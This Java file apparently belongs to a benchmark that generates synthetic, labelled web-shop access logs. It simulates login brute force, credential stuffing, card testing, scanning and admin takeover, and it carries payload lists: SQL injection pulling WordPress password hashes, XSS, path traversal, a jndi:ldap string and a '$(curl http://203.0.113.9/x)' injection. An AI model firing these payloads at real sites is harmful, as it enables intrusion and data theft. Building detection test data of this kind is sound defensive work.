package dev.cordon.bench.traffic;

import java.util.ArrayList;
import java.util.List;
import java.util.function.IntConsumer;

/** The attacks of the day, each from addresses of its own that look like anybody's. */
final class Campaigns {

    private static final List<String> SQL =
            List.of(
                    "1%%27%%20AND%%20%1$d%%3D%1$d--%%20-",
                    "x%%27)%%20OR%%20%1$d%%3D%1$d%%23",
                    "1%%20UNION%%20ALL%%20SELECT%%20NULL,NULL,CONCAT(0x71,%1$d)--%%20",
                    "1%%2527%%2520UNION%%2520SELECT%%2520user_login,user_pass%%2520FROM%%2520wp_users--",
                    "1/**/AND/**/(SELECT/**/%1$d/**/FROM(SELECT/**/COUNT(*),CONCAT(0x7162,FLOOR(RAND(0)*2))x/**/FROM/**/information_schema.tables/**/GROUP/**/BY/**/x)a)",
                    "1;SELECT%%20SLEEP(5)%%23",
                    "-%1$d%%27%%20ORDER%%20BY%%20%2$d--%%20-",
                    "1%%20AND%%20EXTRACTVALUE(%1$d,CONCAT(0x5c,(SELECT%%20version())))",
                    "%%2d1%%27%%20/*!50000union*/%%20/*!50000select*/%%201,2,%2$d%%23",
                    "1%%27%%20RLIKE%%20(SELECT%%20(CASE%%20WHEN%%20(%1$d%%3D%1$d)%%20THEN%%201%%20ELSE%%200x28%%20END))--%%20");
    private static final List<String> CODE =
            List.of(
                    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
                    "php://filter/convert.base64-encode/resource=wp-config.php",
                    "%3Bcat%20/etc/passwd",
                    "$(curl%20http://203.0.113.9/x)",
                    "{{7*7}}",
                    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
                    "%3C%3Fphp%20system(%27id%27)%3B",
                    "....//....//....//windows/win.ini");
    private static final List<String> SCRIPTS =
            List.of(
                    "%3Cscript%3Ealert(1)%3C/script%3E",
                    "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
                    "%3Csvg/onload%3Dalert(document.domain)%3E",
                    "javascript:alert(1)//",
                    "%2522%253E%253Cscript%253Ealert(1)%253C%252Fscript%253E");
    private static final List<String> PLUGINS =
            List.of(
                    "revslider",
                    "contact-form-7",
                    "elementor",
                    "wp-file-manager",
                    "duplicator",
                    "wpdatatables",
                    "yuzo-related-post",
                    "social-warfare",
                    "loginizer",
                    "wp-gdpr",
                    "easy-wp-smtp",
                    "ninja-forms",
                    "backup-buddy",
                    "wp-automatic",
                    "bricks");
    private static final List<String> FILES =
            List.of(
                    "/.env",
                    "/.git/config",
                    "/backup.zip",
                    "/wp-config.php.bak",
                    "/db.sql",
                    "/.aws/credentials",
                    "/wp-config.php~",
                    "/dump.sql",
                    "/.svn/entries",
                    "/site.tar.gz",
                    "/.htpasswd",
                    "/phpinfo.php");
    private static final List<String> SHELLS =
            List.of(
                    "/shell.php",
                    "/c99.php",
                    "/wso.php",
                    "/alfa.php",
                    "/up.php",
                    "/r57.php",
                    "/cmd.php");

    private final Traffic traffic;
    private final Shop shop;

    Campaigns(Traffic traffic) {
        this.traffic = traffic;
        this.shop = traffic.shop;
    }

    void plan() {
        times(6, i -> guessing("/wp-login.php", "fast", 60 + 40 * i, 0.4, 2));
        times(3, i -> guessing("/wp-login.php", "slow", 150, 55, 80));
        times(4, i -> guessing("/xmlrpc.php", "XML-RPC", 80, 1, 6));
        times(4, i -> guessing("/my-account/", "shop", 70, 2, 12));
        times(2, i -> guessing("/my-account/", "shop, slow", 120, 60, 100));
        times(4, i -> stuffing("/my-account/", 40 + 70 * i, 1_200, 3));
        times(2, i -> stuffing("/wp-login.php", 60 + 60 * i, 900, 3));
        times(3, i -> stuffing("/my-account/", 50, 40_000, 2));
        times(2, i -> stuffing("/wp-login.php", 50, 40_000, 2));
        times(6, i -> injecting("sql-injection", "query", SQL, 40, 0.5, 4, 1));
        times(3, i -> injecting("sql-injection", "slow", SQL, 14, 200, 600, 1));
        times(3, i -> injecting("sql-injection", "Store API", SQL, 30, 1, 5, 1));
        times(2, i -> injecting("sql-injection", "header", SQL, 20, 1, 20, 1));
        times(2, i -> injecting("sql-injection", "distributed", SQL, 60, 2, 20, 12));
        times(3, i -> injecting("cross-site-scripting", "query", SCRIPTS, 25, 1, 10, 1));
        times(4, i -> injecting("code-injection", "query", CODE, 25, 1, 10, 1));
        times(4, i -> flood("search-flood", 1, 600, 4));
        times(3, i -> flood("search-flood", 80 + 60 * i, 6_000, 10));
        times(4, i -> flood("product-flood", 1, 700, 5));
        times(3, i -> flood("product-flood", 80 + 60 * i, 6_000, 10));
        times(3, i -> cards("/wp-json/wc/store/v1/checkout", 1, 40));
        times(3, i -> cards("/?wc-ajax=checkout", 1, 40));
        times(2, i -> cards("/checkout/order-pay/1234/?pay_for_order=true&key=wc_order_x", 1, 30));
        times(2, i -> cards("/my-account/add-payment-method/", 1, 30));
        times(3, i -> cards("/wp-json/wc/store/v1/checkout", 15 + 20 * i, 4));
        times(2, i -> cards("/?wc-ajax=checkout", 20 + 20 * i, 4));
        times(4, i -> pluginScan(i));
        times(4, i -> discovery(i));
        times(3, this::sensitiveFiles);
        times(4, this::enumeration);
        times(2, this::scraping);
        times(2, this::shellProbe);
        times(2, this::shellUse);
        times(3, this::hijack);
        times(2, this::keys);
        times(2, this::registrations);
    }

    private void times(int count, IntConsumer campaign) {
        for (int i = 0; i < count; i++) {
            campaign.accept(i);
        }
    }

    private double begin(double length) {
        return traffic.between(1_800, Math.max(2_000, Traffic.DAY - length - 600));
    }

    private List<String> addresses(int count) {
        var all = new ArrayList<String>();
        for (int i = 0; i < count; i++) {
            all.add(traffic.address());
        }
        return all;
    }

    private void guessing(String door, String how, int tries, double least, double most) {
        var who = traffic.address();
        var agent = shop.agent();
        double from = begin(tries * most);
        double at = from;
        for (int i = 0; i < tries; i++) {
            boolean fetches = i % 3 == 0 && !door.contains("xmlrpc");
            if (fetches) {
                traffic.add(at, who, "GET", door, 200, 6_800, "-", agent);
            }
            traffic.add(
                    at + 0.2,
                    who,
                    "POST",
                    door,
                    200,
                    7_100,
                    fetches ? Shop.HOST + door : "-",
                    agent);
            at += traffic.between(least, most);
        }
        traffic.label("login-bruteforce", door + " " + how, true, from, at, List.of(who));
    }

    private void stuffing(String door, int addresses, double seconds, int each) {
        var who = addresses(addresses);
        double from = begin(seconds);
        for (var one : who) {
            var agent = shop.agent();
            int tries = 1 + traffic.random.nextInt(each);
            double at = from + traffic.between(0, seconds);
            for (int i = 0; i < tries; i++) {
                traffic.add(at, one, "GET", door, 200, 61_000, "-", agent);
                boolean lucky = traffic.random.nextInt(80) == 0;
                traffic.add(
                        at + 1,
                        one,
                        "POST",
                        door,
                        lucky ? 302 : 200,
                        62_000,
                        Shop.HOST + door,
                        agent);
                at += traffic.between(5, seconds / 8);
            }
        }
        traffic.label(
                "credential-stuffing",
                door + " over " + (int) seconds + " s",
                true,
                from,
                from + seconds * 1.4,
                who);
    }

    private void injecting(
            String kind,
            String how,
            List<String> payloads,
            int count,
            double least,
            double most,
            int addresses) {
        var who = addresses(addresses);
        var agent = shop.agent();
        double from = begin(count * most);
        double at = from;
        for (int i = 0; i < count; i++) {
            var payload = payloads.get(i % payloads.size());
            if (kind.equals("sql-injection")) {
                payload = payload.formatted(1_000 + traffic.random.nextInt(9_000), 1 + i % 12);
            }
            var one = who.get(i % who.size());
            switch (how) {
                case "Store API" ->
                        traffic.add(
                                at,
                                one,
                                "GET",
                                "/wp-json/wc/store/v1/products?search=" + payload + "&min_price=1",
                                200,
                                2,
                                "-",
                                agent);
                case "header" ->
                        traffic.add(
                                at,
                                one,
                                "GET",
                                shop.product(),
                                200,
                                60_000,
                                i % 2 == 0 ? Shop.HOST + "/?id=" + payload : "-",
                                i % 2 == 0
                                        ? agent
                                        : agent
                                                + " "
                                                + payload.replace("%20", " ").replace("%27", "'"));
                default ->
                        traffic.add(
                                at,
                                one,
                                "GET",
                                (i % 2 == 0 ? "/?s=" : "/shop/?orderby=") + payload,
                                200,
                                50_000,
                                "-",
                                agent);
            }
            at += traffic.between(least, most);
        }
        traffic.label(kind, how, true, from, at, who);
    }

    private void flood(String kind, int addresses, int requests, double perSecond) {
        var who = addresses(addresses);
        double from = begin(requests / perSecond);
        double at = from;
        for (int i = 0; i < requests; i++) {
            var target =
                    kind.equals("search-flood")
                            ? shop.search()
                            : i % 2 == 0
                                    ? shop.product() + "?" + traffic.random.nextInt(1_000_000_000)
                                    : shop.filtered();
            var one = who.get(traffic.random.nextInt(who.size()));
            traffic.add(at, one, "GET", target, i % 20 == 0 ? 503 : 200, 60_000, "-", shop.agent());
            at += traffic.between(0, 2 / perSecond);
        }
        traffic.label(kind, addresses + " addresses", true, from, at, who);
    }

    private void cards(String door, int addresses, int each) {
        var who = addresses(addresses);
        double length = addresses == 1 ? each * 15 : 900;
        double from = begin(length);
        for (var one : who) {
            var agent = shop.agent();
            double at = addresses == 1 ? from : from + traffic.between(0, length);
            traffic.add(
                    at, one, "POST", "/wp-json/wc/store/v1/cart/add-item", 201, 3_200, "-", agent);
            for (int i = 0; i < each; i++) {
                at += addresses == 1 ? traffic.between(3, 20) : traffic.between(20, 120);
                boolean api = door.contains("store");
                traffic.add(
                        at, one, "POST", door, api && i % 25 != 24 ? 400 : 200, 212, "-", agent);
            }
        }
        traffic.label(
                "card-testing", door + " from " + addresses, true, from, from + length + 400, who);
    }

    private void pluginScan(int number) {
        boolean slow = number % 2 == 1;
        var who = traffic.address();
        var agent = shop.agent();
        double from = begin(15 * 400);
        double at = from;
        for (var plugin : PLUGINS) {
            traffic.add(
                    at,
                    who,
                    "GET",
                    "/wp-content/plugins/" + plugin + "/readme.txt",
                    404,
                    300,
                    "-",
                    agent);
            at += slow ? traffic.between(200, 400) : traffic.between(0.2, 2);
        }
        traffic.label("scanner", slow ? "plugins, slow" : "plugins", true, from, at, List.of(who));
    }

    private void discovery(int number) {
        var who = traffic.address();
        var agent = shop.agent();
        double from = begin(400);
        double at = from;
        for (int i = 0; i < 250; i++) {
            traffic.add(
                    at,
                    who,
                    "GET",
                    "/" + Integer.toString(100_000 + i * 7_919 + number, 36),
                    404,
                    300,
                    "-",
                    agent);
            at += traffic.between(0.05, 1.2);
        }
        traffic.label("scanner", "content discovery", true, from, at, List.of(who));
    }

    private void sensitiveFiles(int number) {
        var who = traffic.address();
        var agent = shop.agent();
        double from = begin(120);
        double at = from;
        for (var file : FILES) {
            boolean found = number == 2 && file.equals("/db.sql");
            traffic.add(at, who, "GET", file, found ? 200 : 404, found ? 90_000 : 300, "-", agent);
            at += traffic.between(0.5, 6);
        }
        traffic.label("scanner", "sensitive files", true, from, at, List.of(who));
    }

    private void enumeration(int number) {
        var who = traffic.address();
        var agent = shop.agent();
        double from = begin(200);
        double at = from;
        for (int i = 1; i <= 12; i++) {
            var target = number % 2 == 0 ? "/?author=" + i : "/wp-json/wp/v2/users?page=" + i;
            traffic.add(at, who, "GET", target, number % 2 == 0 ? 301 : 200, 500, "-", agent);
            at += traffic.between(0.5, 12);
        }
        traffic.label("user-enumeration", "names of users", true, from, at, List.of(who));
    }

    private void scraping(int number) {
        var who = traffic.address();
        var agent = shop.agent();
        double from = begin(900);
        double at = from;
        for (int i = 0; i < 1_500; i++) {
            traffic.add(at, who, "GET", shop.product(), 200, 60_000, "-", agent);
            at += traffic.between(0.1, 0.9);
        }
        traffic.label("scraping", "every product", true, from, at, List.of(who));
    }

    private void shellProbe(int number) {
        var who = traffic.address();
        double from = begin(60);
        double at = from;
        for (var shell : SHELLS) {
            traffic.add(
                    at,
                    who,
                    "GET",
                    (number == 0 ? "" : "/wp-content") + shell,
                    404,
                    300,
                    "-",
                    shop.agent());
            at += traffic.between(0.5, 6);
        }
        traffic.label("scanner", "web shells of others", true, from, at, List.of(who));
    }

    private void shellUse(int number) {
        var who = traffic.address();
        double from = begin(600);
        double at = from;
        for (int i = 0; i < 15; i++) {
            traffic.add(
                    at,
                    who,
                    i % 2 == 0 ? "GET" : "POST",
                    "/wp-content/uploads/2026/10/img_" + number + ".php?x=" + i,
                    200,
                    40,
                    "-",
                    shop.agent());
            at += traffic.between(1, 40);
        }
        traffic.label("web-shell", "use of an uploaded program", true, from, at, List.of(who));
    }

    private void hijack(int number) {
        var who = traffic.address();
        var agent = shop.agent();
        double from = begin(600);
        traffic.add(from, who, "GET", "/wp-login.php", 200, 6_800, "-", agent);
        traffic.add(
                from + 4, who, "POST", "/wp-login.php", 302, 5, Shop.HOST + "/wp-login.php", agent);
        traffic.add(from + 6, who, "GET", "/wp-admin/", 200, 260_000, "-", agent);
        if (number != 1) {
            traffic.add(
                    from + 40,
                    who,
                    "POST",
                    "/wp-admin/update.php?action=upload-plugin",
                    200,
                    190_000,
                    Shop.HOST + "/wp-admin/plugin-install.php",
                    agent);
        }
        traffic.add(
                from + 90,
                who,
                "POST",
                "/wp-admin/user-new.php",
                302,
                5,
                Shop.HOST + "/wp-admin/user-new.php",
                agent);
        traffic.label(
                "admin-takeover", "hijacked administrator", true, from, from + 100, List.of(who));
    }

    private void keys(int number) {
        var who = traffic.address();
        double from = begin(700);
        double at = from;
        for (int i = 0; i < 30; i++) {
            traffic.add(
                    at,
                    who,
                    "GET",
                    "/wp-json/wc/v3/orders?consumer_key=ck_" + i * 7_919,
                    401,
                    160,
                    "-",
                    "curl/8.4");
            at += traffic.between(0.5, 4);
        }
        for (int page = 1; page <= 80; page++) {
            traffic.add(
                    at,
                    who,
                    "GET",
                    "/wp-json/wc/v3/customers?per_page=100&page=" + page,
                    200,
                    90_000,
                    "-",
                    "curl/8.4");
            at += traffic.between(0.5, 4);
        }
        traffic.label(
                "api-misuse", "keys tried, then everything read", true, from, at, List.of(who));
    }

    private void registrations(int number) {
        var who = traffic.address();
        double from = begin(500);
        double at = from;
        for (int i = 0; i < 40; i++) {
            traffic.add(
                    at, who, "POST", "/wp-login.php?action=register", 302, 5, "-", shop.agent());
            at += traffic.between(2, 12);
        }
        traffic.label("spam-registration", "one address", true, from, at, List.of(who));
    }
}
